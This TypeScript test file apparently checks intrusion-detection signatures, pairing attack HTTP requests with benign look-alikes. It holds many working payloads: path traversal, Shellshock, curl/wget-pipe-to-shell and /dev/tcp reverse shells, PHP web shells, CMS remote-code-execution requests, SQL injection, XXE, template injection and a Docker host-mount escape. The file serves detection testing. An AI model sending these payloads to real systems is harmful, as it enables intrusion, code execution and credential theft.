// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
import { big, type SignatureCase, signature, talk } from '../exchange';
import { get, JSON_TYPE, multipart, post, put, upload, XML_TYPE } from '../http';

/** A FastCGI record: type 1 begins a request, 4 carries parameters. */
const record = (type: number, content: string) =>
  `\x01${big(1, type)}\0\x01${big(2, content.length)}\0\0${content}`;
const parameter = (name: string, value: string) =>
  `${big(1, name.length)}${big(1, value.length)}${name}${value}`;
const fastCgi = (...parameters: readonly (readonly [string, string])[]) =>
  `${record(1, '\0\x01\0\0\0\0\0\0')}${record(4, parameters.map(([name, value]) => parameter(name, value)).join(''))}${record(4, '')}${record(5, '')}`;

const multicall = (...methods: string[]) =>
  `<methodCall><methodName>system.multicall</methodName><params>${methods.map((name) => `<member><name>methodName</name><value><string>${name}</string></value></member>`).join('')}</params></methodCall>`;

const image = `AT&TFORM\0\0\x03\xafDJVMDIRM`;

export const webApplications: readonly SignatureCase[] = [
  signature(
    9000101,
    [
      get('/static/../../../../etc/passwd'),
      get('/download?file=..%2f..%2f..%2fetc%2fpasswd'),
      get('/cgi-bin/%252e%252e%252f%252e%252e%252fetc%252fshadow'),
      get('/a/..%c0%af..%c0%afetc/passwd'),
    ],
    [get('/docs/../etc/index.html'), get('/man/etc/passwd.5.html'), get('/files?name=../theme/etc.css')],
  ),
  signature(
    9000102,
    [
      get('/view?page=../../../../windows/win.ini'),
      get('/..%5c..%5c..%5cWindows%5cSystem32%5cdrivers'),
      get('/a/../../boot.ini'),
    ],
    [get('/windows/win.ini.html'), get('/help/../windows/index.html')],
  ),
  signature(
    9000103,
    [get('/index.php?page=/etc/passwd'), get('/show?x=1&File=file:///etc/shadow')],
    [get('/search?q=/etc/passwd'), get('/man?page=passwd')],
  ),
  signature(
    9000104,
    [
      get('/index.php?page=php://filter/convert.base64-encode/resource=config'),
      get('/?a=1&file=PHP://input'),
    ],
    [get('/search?q=what+is+php://output'), get('/manual/en/wrappers.php.php')],
  ),
  signature(
    9000105,
    [
      get('/cgi-bin/status', { 'User-Agent': '() { :; }; /bin/bash -c "id"' }),
      get('/cgi-bin/test.sh', { Referer: '() { _; } ; echo; /usr/bin/id' }),
    ],
    [
      get('/', { 'X-Script': 'function() { return 1 }' }),
      get('/', { Referer: 'http://www.example.org/f() {}' }),
    ],
  ),
  signature(
    9000106,
    [
      get('/cgi-bin/a', { Cookie: '() { :;}; ping -c 1 198.51.100.99' }),
      get('/', { Cookie: 'a=() { x; }; id' }),
    ],
    [get('/', { Cookie: 'cb=f() {}' })],
  ),
  signature(
    9000107,
    [get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'), post('/icons/%2e%2e/%2E%2E/%2e%2e/bin/sh', 'echo; id')],
    [get('/docs/.%2e/index.html'), get('/a%2eb/c%2ed/%2ehidden/')],
  ),
  signature(
    9000108,
    [get('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'), get('/icons/.%%32%65/.%%32%65/bin/sh')],
    [get('/discount/100%%32%65.html')],
  ),
  signature(
    9000109,
    [
      get('/ping?host=127.0.0.1;wget+http://example.net/x.sh'),
      get('/a?b=%60wget%20-O%20/tmp/x%20http://example.net/%60'),
      get('/a?b=$(/usr/bin/wget${IFS}example.net)'),
    ],
    [get('/packages?name=wget;sort=date'), get('/docs?q=curl|wget|fetch')],
  ),
  signature(
    9000110,
    [get('/ping?host=1|curl+http://example.net/x|sh'), get('/x?a=%3Bcurl%24%7BIFS%7Dexample.net')],
    [get('/docs?q=wget;curl'), get('/a?tags=http|curling')],
  ),
  signature(
    9000111,
    [
      get('/x?cmd=bash+-i+>%26+/dev/tcp/198.51.100.99/4444+0>%261'),
      get('/x?c=cat<%20/dev/tcp/example.net/80'),
    ],
    [get('/search?q=/dev/tcp/ip/port')],
  ),
  signature(
    9000112,
    [
      post('/api/ping', '{"host":"a; bash -i >& /dev/tcp/198.51.100.99/4444 0>&1"}', JSON_TYPE),
      post('/ping', 'host=a%3Bexec+5%3C%3E/dev/tcp/example.net/443'),
    ],
    [post('/notes', 'text=Bash+offers+/dev/tcp/host/port')],
  ),
  signature(
    9000113,
    [
      post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 1;'),
      get('/lib/PHPUnit/Util/PHP/Eval-Stdin.php'),
    ],
    [get('/vendor/phpunit/phpunit/README.md'), get('/docs/phpunit/eval.html')],
  ),
  signature(
    9000114,
    [
      get(
        '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
      ),
      get('/?s=index/%5Cthink%5Capp/invokefunction&function=phpinfo&vars[0]=100'),
    ],
    [get('/docs?q=invokefunction+lambda')],
  ),
  signature(
    9000115,
    [
      post(
        '/index.php?s=captcha',
        '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id',
      ),
      post('/', 'x=1&filter%5B%5D=assert&_method=__construct'),
    ],
    [post('/item/1', '_method=put&filter[]=new')],
  ),
  signature(
    9000116,
    [
      post(
        '/user/register?element_parents=account/mail/%23value&ajax_form=1',
        'form_id=user_register_form&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id',
      ),
      post(
        '/user/register?ajax_form=1&element_parents=timezone/timezone/%23value',
        'timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D=passthru',
      ),
    ],
    [post('/user/register?element_parents=account/mail&ajax_form=1', 'mail[0][value]=a@example.org')],
  ),
  signature(
    9000117,
    [
      get('/?q=user/password&name[%23post_render][]=passthru&name[%23markup]=id&name[%23type]=markup'),
      get('/node?a%5B%23pre_render%5D%5B%5D=system'),
    ],
    [get('/?name[first]=a#section'), get('/color?c=[%23ff0000]')],
  ),
  signature(
    9000118,
    [
      post('/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', '<?php echo 1;'),
      get('/index.php?-d%20auto_append_file%3d/etc/hostname'),
    ],
    [get('/index.php?-d=1'), get('/docs?q=disable_functions+-d')],
  ),
  signature(
    9000119,
    [
      post(
        '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
        '<?php echo 1;',
      ),
      get('/index.php?%add+cgi.force_redirect%3d0'),
    ],
    [get('/search?q=soft%C2%ADhyphen'), get('/a?b=%ADd')],
  ),
  signature(
    9000120,
    [
      upload('/upload.php', 'a.php', "<?php @eval($_POST['x']); ?>", 'image/png'),
      post('/wp-content/x', "data=<?=system(\n$_GET['c'])?>"),
      upload('/u', 'b.phtml', 'GIF89a<?php assert(base64_decode($_REQUEST["k"]));'),
    ],
    [upload('/review', 'form.php', '<?php $name = htmlspecialchars($_POST["name"]); echo "hello $name";')],
  ),
  signature(
    9000121,
    [
      post('/uploads/x.php', 'z=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQ'),
      post('/x.php', 'caidao=@eval(base64_decode($_POST[action]));&action=ZWNobw'),
    ],
    [post('/forum', 'text=never+use+eval+and+base64_decode+together')],
  ),
  signature(
    9000122,
    [
      get('/uploads/shell.php?cmd=id'),
      get('/images/cmd.jsp?x=1&cmd=whoami'),
      get('/wp-includes/WSO.php?cmd=ls'),
    ],
    [get('/docs/shell.php?page=2'), get('/shop/cmdline.php?cmd=list')],
  ),
  signature(
    9000123,
    [
      talk(
        9000,
        fastCgi(
          ['SCRIPT_FILENAME', '/var/www/html/index.php'],
          ['PHP_VALUE', 'auto_prepend_file = php://input'],
        ),
      ),
      talk(
        9000,
        fastCgi(['PHP_ADMIN_VALUE', 'allow_url_include = On'], ['PHP_VALUE', 'auto_append_file=php://input']),
      ),
    ],
    [
      talk(
        9000,
        fastCgi(['SCRIPT_FILENAME', '/var/www/html/index.php'], ['PHP_VALUE', 'memory_limit = 256M']),
      ),
    ],
  ),
  signature(
    9000124,
    [
      upload('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'x.php', '<?php'),
      post('/blog/wp-content/plugins/WP-file-manager/lib/php/connector.minimal.php?cmd=ls', 'a=1'),
    ],
    [post('/wp-admin/admin-ajax.php', 'action=mk_file_folder_manager&cmd=open')],
  ),
  signature(
    9000125,
    [
      get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'),
      get('/wp-admin/admin-ajax.php?img=..%2fwp-config.php&action=RevSlider_show_image'),
    ],
    [get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=banner.jpg')],
  ),
  signature(
    9000126,
    [
      post('/xmlrpc.php', multicall('wp.getUsersBlogs', 'wp.getUsersBlogs', 'wp.getUsersBlogs'), XML_TYPE),
      post('/blog/xmlrpc.php', multicall('wp.getCategories', 'metaWeblog.getUsersBlogs'), XML_TYPE),
    ],
    [post('/xmlrpc.php', multicall('wp.getPosts', 'wp.getUsersBlogs'), XML_TYPE)],
  ),
  signature(
    9000127,
    [
      get('/', {
        'User-Agent': '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}',
      }),
      get('/joomla/', { 'User-Agent': 'x|O:21:"jdatabasedrivermysqli":1:{}' }),
    ],
    [get('/', { 'User-Agent': 'docs-crawler/1.0 (JDatabaseDriverMysqli reference)' })],
  ),
  signature(
    9000128,
    [get('/api/index.php/v1/config/application?public=true'), get('/api/index.php/v1/users?x=1&PUBLIC=true')],
    [get('/api/index.php/v1/content/articles?page=1')],
  ),
  signature(
    9000129,
    [
      post('/', 'routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec("id"); exit;'),
      post(
        '/forum/',
        'subWidgets[0][template]=widget_php&subWidgets%5B0%5D%5Bconfig%5D%5Bcode%5D=phpinfo();&routestring=ajax/render/widget_tabbedcontainer_tab_panel',
      ),
    ],
    [post('/forum/', 'routestring=ajax/render/widget_search&widgetConfig[title]=Search')],
  ),
  signature(
    9000130,
    [
      post(
        '/_ignition/execute-solution',
        '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"viewFile":"phar://../storage/logs/laravel.log/a"}}',
        JSON_TYPE,
      ),
      post(
        '/_ignition/execute-solution',
        '{"parameters":{"variableName":"x","viewFile":"php:\\/\\/filter\\/write=x"}}',
        JSON_TYPE,
      ),
    ],
    [
      post(
        '/_ignition/execute-solution',
        '{"parameters":{"variableName":"x","viewFile":"/app/resources/a.blade.php"}}',
        JSON_TYPE,
      ),
    ],
  ),
  signature(
    9000131,
    [
      post('/password_change.cgi', 'user=rootxx&pam=&expired=2&old=test|id&new1=test2&new2=test2', {}, 10000),
      post('/password_change.cgi', 'old=%7Cid&expired=2', {}, 10000),
    ],
    [post('/password_change.cgi', 'user=ops&old=correct+horse&new1=battery&new2=battery', {}, 10000)],
  ),
  signature(
    9000132,
    [
      get('/item?id=1+UNION+SELECT+1,2,3--'),
      get("/item?id=-1'/**/uNiOn/**/aLL/**/sElEcT/**/null,concat(user,0x3a,password)/**/from/**/users--"),
      get('/item?id=1%20union%20select%20username,password%20from%20users'),
      get('/item?id=1+/*!50000UNION*/+/*!50000SELECT*/+1,2,3'),
      get('/item?id=1%0aunion%0adistinct%0aselect(@@version)'),
      get('/sqli/?id=a%27+UNION+SELECT+%22text1%22%2C%22text2%22%3B--+-&Submit=Submit'),
    ],
    [
      get('/search?q=european+union+select+committee'),
      get('/search?q=union+select+workers+from+each+state'),
      get('/union/select/1'),
    ],
  ),
  signature(
    9000133,
    [
      post('/login', "user=x'+UNION+SELECT+1,'admin','x'--&password=a"),
      post('/login', 'user=x%27%20union%0Aall%20select%20null%2Cversion%28%29--'),
    ],
    [post('/comment', 'text=The+union+may+select+members+from+all+states%2C+he+said')],
  ),
  signature(
    9000134,
    [
      get("/item?id=1'+AND+SLEEP(5)--"),
      get('/item?id=1);select+pg_sleep(10)--'),
      get('/item?id=if(1=1,sleep(3),0)'),
    ],
    [get('/docs?q=time.sleep(5)'), get('/bed?name=sleep(er)')],
  ),
  signature(
    9000135,
    [get("/item?id=1'+and+benchmark(10000000,md5(1))--"), get('/item?id=1+OR+BENCHMARK(%205000000,SHA1(1))')],
    [get('/docs?q=benchmark(cpu)')],
  ),
  signature(
    9000136,
    [get("/item?id=1;WAITFOR+DELAY+'0:0:5'--"), get("/item?id=1)%20waitfor/**/delay/**/'00:00:10'--")],
    [get('/docs?q=waitfor+delay+statement')],
  ),
  signature(
    9000137,
    [
      post('/login', "user=admin'+AND+SLEEP(5)--+-&password=x"),
      post('/login', 'user=a%27%20or%20if%281%3D1%2Csleep%284%29%2C0%29--'),
    ],
    [
      post('/code', "text=import time\nprint('a')\ntime.sleep(5)"),
      post('/diary', "text=I+can't+sleep+(5+hours+only)+or+so"),
    ],
  ),
  signature(
    9000138,
    [get("/login?user=admin'+OR+'1'='1&p=x"), get("/login?user='%20or%201=1--")],
    [get("/search?q=rock'n'roll+or+jazz"), get("/search?q='a'+or+'b'"), get("/search?q=don't+do+1+or+2=3")],
  ),
  signature(
    9000156,
    [get("/login?user=x'||'a'='a'"), get("/login?user=x'%20%7C%7C%201=1--")],
    [get("/search?q='a'||'b'"), get("/calc?e='x'||1=2")],
  ),
  signature(
    9000157,
    [
      get('/', { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' }),
      get('/admin/', { 'user-agent': 'SQLMap/1.7.2' }),
    ],
    [get('/', { 'User-Agent': 'sitemap-checker/1.0' })],
  ),
  signature(
    9000158,
    [
      get('/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)' }),
      get('/admin/', { 'user-agent': 'Mozilla/5.00 (nikto/2.5.0)' }),
    ],
    [get('/', { 'User-Agent': 'Mozilla/5.0 Nikto2Reader' })],
  ),
  signature(
    9000159,
    [
      get('/', {
        'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      }),
      get('/admin/', { 'user-agent': 'nmap scripting engine' }),
    ],
    [get('/', { 'User-Agent': 'nmap-docs-reader/1.0' })],
  ),
  signature(
    9000160,
    [get('/', { 'User-Agent': 'gobuster/3.6' }), get('/admin/', { 'user-agent': 'Gobuster/3.1.0' })],
    [get('/', { 'User-Agent': 'gobusters-fan/1' })],
  ),
  signature(
    9000161,
    [
      get('/', { 'User-Agent': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' }),
      get('/admin/', { 'user-agent': 'wpscan 3.7' }),
    ],
    [get('/', { 'User-Agent': 'wpscanner-badge/1.0' })],
  ),
  signature(
    9000162,
    [
      get('/', { 'User-Agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }),
      get('/admin/', { 'user-agent': 'Mozilla/5.0 Masscan/1.0' }),
    ],
    [get('/', { 'User-Agent': 'massscan-monitor/1.0' })],
  ),
  signature(
    9000163,
    [
      get('/sqli/?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23&Submit=Submit'),
      get('/item?id=-1/**/UNION/**/ALL/**/SELECT/**/a,b/**/FROM/**/c'),
    ],
    [get('/search?q=union+select+workers,+miners+from+all+states'), get("/search?q=the+'union'+of+2")],
  ),
  signature(
    9000139,
    [
      get("/item?id=1;EXEC+master..xp_cmdshell+'whoami'--"),
      get("/item?id=1;exec%20sp_configure%20'xp_cmdshell',1"),
    ],
    [get('/docs/xp_cmdshell.html'), get('/search?q=disable+xp_cmdshell')],
  ),
  signature(
    9000140,
    [
      post('/login', "user=a';execute+master.dbo.xp_cmdshell+'dir'--"),
      post('/login', 'user=a%27%3Bexec%20xp_cmdshell%20%27id%27'),
    ],
    [post('/comment', 'text=We+switched+off+xp_cmdshell+last+week')],
  ),
  signature(
    9000141,
    [post('/login', 'username[$ne]=x&password[$ne]=x'), post('/login', 'a=1&passwd[$regex]=^a')],
    [post('/messages', 'createdAt[$gt]=2026&limit=10')],
  ),
  signature(
    9000154,
    [post('/login', 'username%5B%24ne%5D=x&password%5B%24ne%5D=x'), post('/login', 'a=1&email%5b%24gt%5d=')],
    [post('/messages', 'createdAt%5B%24gt%5D=2026')],
  ),
  signature(
    9000155,
    [
      get("/item?id=1'||DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
      get('/item?id=dbms_pipe.receive_message%20(chr(65),10)'),
    ],
    [get('/docs/dbms_pipe.html')],
  ),
  signature(
    9000142,
    [
      post(
        '/api/xml',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
        XML_TYPE,
      ),
      post('/api/xml', "<!DOCTYPE r [<!entity  % p PUBLIC 'x' 'http://example.net/e.dtd'> %p;]>", XML_TYPE),
    ],
    [post('/api/xml', '<!DOCTYPE r [<!ENTITY company "Example Ltd.">]><r>&company;</r>', XML_TYPE)],
  ),
  signature(
    9000143,
    [
      get('/hello?name={{7*7}}'),
      get("/hello?name=%7B%7B''.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
      get('/a?b={{config.items()}}'),
    ],
    [get('/templates?text={{first_name}}'), get('/a?b={{class}}')],
  ),
  signature(
    9000144,
    [
      post('/preview', "text={{ self.__init__.__globals__['os'].popen('id').read() }}"),
      post('/preview', 'text=%7B%25+for+c+in+%5B%5D.__class__.__base__.__subclasses__%28%29+%25%7D'),
    ],
    [post('/preview', 'text={{ user.first_name }} and __init__.py')],
  ),
  signature(
    9000145,
    [
      get("/calc?e=require('child_process').execSync('id')"),
      get('/calc?e=process.mainModule.require%20(%22child_process%22).exec(1)'),
    ],
    [get('/docs/child_process.html'), get('/search?q=require+child_process')],
  ),
  signature(
    9000146,
    [
      post(
        '/',
        '{"then":"$1:__proto__:then","status":"resolved_model","_response":{"_prefix":"x","_formData":{"get":"$1:constructor:constructor"}}}',
        { 'Next-Action': 'x' },
      ),
      (() => {
        const { body, headers } = multipart(
          {
            name: '0',
            content: '{"_formData":{"get":"$3:constructor:constructor"},"then":"$3:__proto__:then"}',
          },
          { name: '3', content: '"$@0"' },
        );
        return post('/dashboard', body, headers);
      })(),
    ],
    [post('/', '["$K1",{"constructor":"x","name":"proto"}]', { 'Next-Action': 'a1b2' })],
  ),
  signature(
    9000147,
    [
      post(
        '/api/timelion/run',
        `{"sheet":[".es(*).props(label.__proto__.env.AAAA='require()')"]}`,
        JSON_TYPE,
        5601,
      ),
      post('/api/timelion/run', '{"sheet":[".es.props(a.__proto__.x=1)"],"time":{}}', JSON_TYPE),
    ],
    [post('/api/timelion/run', '{"sheet":[".es(*).label(proto)"]}', JSON_TYPE, 5601)],
  ),
  signature(
    9000148,
    [
      put(
        '/_users/org.couchdb.user:oops',
        '{"type":"user","name":"oops","roles":["_admin"],"roles":[],"password":"x"}',
        JSON_TYPE,
        5984,
      ),
      put(
        '/_users/org.couchdb.user:b',
        '{"roles": [ "_admin" ],"name":"b","type":"user",\n"roles" : []}',
        JSON_TYPE,
        5984,
      ),
    ],
    [
      put(
        '/_users/org.couchdb.user:ann',
        '{"type":"user","name":"ann","roles":["editor"],"password":"x"}',
        JSON_TYPE,
        5984,
      ),
    ],
  ),
  signature(
    9000149,
    [get('/.env'), get('/app/.git/config'), get('/backup/.env.production'), get('/%2eaws/credentials')],
    [get('/.well-known/security.txt'), get('/docs/.environment'), get('/repo.git/config')],
  ),
  signature(
    9000150,
    [
      post(
        '/containers/create',
        '{"Image":"alpine","Cmd":["chroot","/mnt"],"HostConfig":{"Binds":["/:/mnt"]}}',
        JSON_TYPE,
        2375,
      ),
      post(
        '/v1.24/containers/create?name=x',
        '{"HostConfig":{"Binds" : [ "/a:/a","/:/host:rw" ]}}',
        JSON_TYPE,
        2375,
      ),
    ],
    [
      post(
        '/v1.43/containers/create',
        '{"Image":"web","HostConfig":{"Binds":["/srv/data:/data"]}}',
        JSON_TYPE,
        2375,
      ),
    ],
  ),
  signature(
    9000151,
    [
      put(
        '/v1/agent/service/register',
        '{"ID":"a","Name":"a","Check":{"Args":["sh","-c","id"],"Interval":"10s"}}',
        JSON_TYPE,
        8500,
      ),
      put(
        '/v1/agent/check/register',
        '{"Name":"x","Script":"/bin/bash -c id","Interval":"5s"}',
        JSON_TYPE,
        8500,
      ),
    ],
    [
      put(
        '/v1/agent/service/register',
        '{"Name":"shop","Check":{"HTTP":"http://127.0.0.1/health"}}',
        JSON_TYPE,
        8500,
      ),
    ],
  ),
  signature(
    9000152,
    [
      get('/public/plugins/alertlist/../../../../../../../../etc/grafana/grafana.ini', {}, 3000),
      get('/public/plugins/text/%2e%2e/%2e%2e%2f%2e%2e/var/lib/grafana/grafana.db'),
    ],
    [get('/public/plugins/text/module.js', {}, 3000), get('/public/plugins/text/../table/module.js')],
  ),
  signature(
    9000153,
    [
      upload(
        '/uploads/user',
        'a.jpg',
        `${image}\0\0\0ANTa\0\0\0(metadata\n\t(Copyright "\\\n" . qx{id} . \\c\${system('id')};\n"b"))`,
        'image/jpeg',
      ),
      upload('/x', 'b.jpg', `${image}xxxx(metadata (a "\\c\${exec('sh')}"))`, 'image/jpeg'),
    ],
    [
      upload(
        '/uploads/user',
        'book.djvu',
        `${image}\0\0\0ANTa(metadata (Title "Costs $5"))`,
        'image/vnd.djvu',
      ),
    ],
  ),
];
